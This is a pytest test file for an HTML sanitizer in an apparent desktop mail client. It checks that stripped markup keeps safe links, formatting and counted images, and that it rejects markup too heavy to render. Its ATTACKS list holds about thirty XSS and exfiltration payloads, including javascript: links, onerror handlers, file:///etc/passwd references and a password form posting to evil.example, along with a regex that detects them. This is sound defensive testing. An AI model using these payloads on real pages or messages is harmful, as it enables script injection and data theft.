"""Whatever a stranger sends as HTML: nothing acts, nothing is fetched, nothing stops the window."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PyQt5.QtGui import QTextDocument
from pytestqt.qtbot import QtBot

from client.gui.safe_html import LONGEST, TAGS, HeavyHtmlError, safe_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<a href='/etc/passwd'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='file:///etc/passwd'></object>",
    "<embed src=x><audio src=x><video poster=http://evil.example/x></video>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<body background='file:///etc/passwd'>",
    "<table background='http://evil.example/x.png'><tr><td background=x>y</td></tr></table>",
    "<div style='background-image: url(http://evil.example/x)'>x</div>",
    "<div style='background: url(file:///etc/passwd)'>x</div>",
    "<ul style='list-style-image: url(http://evil.example/x)'><li>x</li></ul>",
    "<div style='position: fixed; top: 0; left: 0; width: 100%'>x</div>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<img src='file:///etc/passwd'><img src='/etc/passwd'><img src='../x.png'>",
    "<img src='data:image/png;base64,AAAA'><img src='cid:part1'>",
    "<p title='<script>alert(1)</script>'>x</p>",
    "<<script>script>alert(1)<</script>/script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
]
HARMFUL = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|link|meta|base|style|svg|math|video|audio)\b"
    r"|<[^>]*\s(on\w+|background|src|srcset|poster|action|xlink:href)\s*="
    r"|url\(|javascript:|file:|position\s*:",
    re.IGNORECASE,
)


# A picture of the message's own list: a number, which asks nobody for anything.
NUMBERED = re.compile(r'\ssrc="picture:\d+"')


def without_pictures(markup: str) -> str:
    return NUMBERED.sub("", markup)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_nothing_that_acts_or_fetches(attack: str) -> None:
    cleaned = safe_html(attack).html
    without_text = without_pictures(re.sub(r">[^<]*<", "><", f">{cleaned}<"))
    assert not HARMFUL.search(without_text), cleaned


@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "</p>", "<table><tr><td>", "x ", "\x00"]), max_size=6))
def test_attacks_in_any_mixture_leave_nothing(parts: list[str]) -> None:
    cleaned = safe_html("".join(parts)).html
    tags = re.findall(r"<(?:[^<>\"]|\"[^\"]*\")*>", cleaned)
    for tag in tags:
        name = re.match(r"</?([a-z0-9]+)", tag)
        assert name is not None
        assert name.group(1) in TAGS
        plain = re.sub(r'href="(https?|mailto):[^"]*"|(title|alt)="[^"]*"', "", without_pictures(tag))
        assert not HARMFUL.search(plain), tag


def test_web_and_mail_links_stay() -> None:
    cleaned = safe_html('<a href="https://project.com/x">x</a> <a href="mailto:anna@project.com">y</a>').html
    assert 'href="https://project.com/x"' in cleaned
    assert 'href="mailto:anna@project.com"' in cleaned


def test_formatting_stays() -> None:
    cleaned = safe_html('<h1>Title</h1><p style="color: red; text-align: center">Hello <b>you</b></p>').html
    assert "<h1>Title</h1>" in cleaned
    assert "color:red" in cleaned.replace(" ", "")
    assert "<b>you</b>" in cleaned


def test_pictures_are_counted_by_where_they_are() -> None:
    remote = '<img src="https://a.example/1.png"><img src="http://b.example/2.png">'
    found = safe_html(f'{remote}<img src="cid:logo"><img src="data:image/png,x"><img src="/relative.png">')
    assert [one.source for one in found.remote] == ["https://a.example/1.png", "http://b.example/2.png"]
    assert [one.source for one in found.own] == ["logo", "data:image/png,x"]
    assert "example" not in found.html
    assert re.findall(r'src="([^"]*)"', found.html) == ["picture:0", "picture:1", "picture:2", "picture:3"]


def test_picture_cannot_take_the_number_of_another() -> None:
    found = safe_html('<img src="picture:1" alt="first"><img src="https://a.example/1.png">')
    assert found.html == 'first<img src="picture:0" alt="">'


def test_what_looks_like_a_picture_inside_of_a_link_stays_text() -> None:
    found = safe_html(
        '<a href="https://a.example/<img src=https://b.example/x>">x</a><img alt="<img src=y>" src="cid:z">'
    )
    assert [one.source for one in found.pictures] == ["z"]
    assert re.findall(r"<(\w+)", re.sub(r'"[^"]*"', "", found.html)) == ["a", "img"]


def test_picture_that_names_the_reader_is_known() -> None:
    html = '<img src="https://a.example/logo.png?u=anna%40project.com"><img src="https://a.example/logo.png">'
    assert [one.names_reader for one in safe_html(html, ["Anna@project.com"]).pictures] == [True, False]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>plain</p>", False),
        ('<p style="font-weight: bold">x</p>', False),
        ('<p style="color: #123456">x</p>', True),
        ('<td bgcolor="#ffffff">x</td>', False),
        ('<table><tr><td bgcolor="#ffffff">x</td></tr></table>', True),
        ('<font color="red">x</font>', True),
    ],
)
def test_own_colours_are_noticed(html: str, expected: bool) -> None:
    assert safe_html(html).sets_colours is expected


@pytest.mark.parametrize(
    "html",
    [
        "x" * (LONGEST + 1),
        "<table><tr><td>" * 8 + "x",
        "<div>" * 100 + "x",
        "<table>" + "<tr><td>x" * 20_000,
        "<table><tr><td>" * 5 + "<table>" + "<tr><td>x" * 1_000,
        "<p>x</p>" * 20_000,
        "a" * 100_000,
        "&nbsp;" * 20_000,
    ],
    ids=["size", "tables", "depth", "cells", "nested-cells", "elements", "word", "no-break-spaces"],
)
def test_too_heavy_for_the_window(html: str) -> None:
    started = time.monotonic()
    with pytest.raises(HeavyHtmlError):
        safe_html(html)
    assert time.monotonic() - started < 20


def test_chinese_text_without_spaces_is_not_too_heavy() -> None:
    assert "你好" in safe_html("<p>" + "你好" * 20_000 + "</p>").html


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("font-size: 14px", "font-size:14px"),
        ("font-size: 9999px", "font-size:64px"),
        ("font-size: 50em", "font-size:64px"),
        ("font-size: 1.2em", "font-size:1.2em"),
    ],
)
def test_font_size_is_bounded(style: str, expected: str) -> None:
    assert expected in safe_html(f'<span style="{style}">x</span>').html.replace(" ", "")


def test_large_spans_and_widths_are_dropped() -> None:
    cleaned = safe_html('<table width="99999999"><tr><td colspan="5000" width="80%">x</td></tr></table>').html
    assert "99999999" not in cleaned
    assert "5000" not in cleaned
    assert 'width="80%"' in cleaned


@pytest.mark.parametrize(
    ("html", "blocks"),
    [
        ('<p>a</p><img src="cid:x">', ["a", "\u2060\ufffc"]),
        ('<h2>a</h2> <a href="https://a.example/"><img src="cid:x"></a><p>b</p>', ["a", "\u2060\ufffc", "b"]),
        ('<p>a<img src="cid:x"></p>', ["a\ufffc"]),
        ('<p>a</p>b<img src="cid:x">', ["a", "b\ufffc"]),
    ],
)
def test_picture_behind_a_paragraph_begins_a_line(qtbot: QtBot, html: str, blocks: list[str]) -> None:
    document = QTextDocument()
    document.setHtml(safe_html(html).html.replace("picture:", "data:"))
    assert document.toPlainText().split("\n") == blocks
